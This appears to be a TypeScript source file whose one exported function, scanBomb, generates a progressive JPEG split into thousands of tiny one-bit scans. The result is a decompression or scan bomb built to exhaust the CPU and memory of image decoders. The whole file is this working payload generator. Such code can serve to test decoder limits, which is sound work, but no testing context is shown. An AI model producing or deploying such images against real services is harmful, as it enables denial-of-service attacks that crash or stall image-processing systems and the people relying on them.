const zeros = (bits: number) => Buffer.alloc(Math.ceil(bits / 8));
const segment = (marker: number, ...bytes: number[]) => {
  const head = Buffer.from([0xff, marker, 0, 0, ...bytes]);
  head.writeUInt16BE(bytes.length + 2, 2);
  return head;
};

/**
 * A progressive JPEG of one colour in very many scans, each of one bit of one coefficient of one component and a few bytes long
 * (ITU T.81, annex G): 2,646 beside the first one where all coefficients are sent, 126 for every three.
 */
export function scanBomb({ side, coefficients }: { side: number; coefficients: number }): Buffer {
  const across = Math.ceil(side / 8);
  const blocks = across * across;
  // 0 alone is a code, of one bit: for "no difference" of a first coefficient, and for 16,384 blocks without others.
  const table = (kind: number, symbol: number) => segment(0xc4, kind, 1, ...Array(15).fill(0), symbol);
  const components = [1, 2, 3];
  const frame = [8, side >> 8, side & 255, side >> 8, side & 255, 3, ...components.flatMap((each) => [each, 0x11, 0])];
  const parts = [
    Buffer.from([0xff, 0xd8]),
    segment(0xdb, 0, ...Array(64).fill(1)),
    segment(0xc2, ...frame),
    table(0x00, 0),
    table(0x10, 0xe0),
    segment(0xda, 3, ...components.flatMap((each) => [each, 0]), 0, 0, 0),
    zeros(blocks * 3),
  ];
  const empty = zeros(Math.ceil(blocks / 16_384) * 15);
  for (const component of components)
    for (let at = 1; at <= coefficients; at += 1)
      for (let bit = 13; bit >= 0; bit -= 1)
        parts.push(segment(0xda, 1, component, 0, at, at, bit === 13 ? 13 : ((bit + 1) << 4) | bit), empty);
  return Buffer.concat([...parts, Buffer.from([0xff, 0xd9])]);
}
